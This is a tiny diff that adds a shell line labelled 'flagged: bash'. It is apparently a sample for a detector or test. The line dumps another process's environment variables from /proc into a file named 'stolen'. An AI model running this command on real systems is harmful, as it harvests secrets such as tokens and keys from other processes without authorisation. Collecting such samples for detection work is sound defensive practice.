@@ -1,0 +1,2 @@
+# flagged: bash
+tr '\0' '\n' < "/proc/$RG_OUTSIDER/environ" > stolen
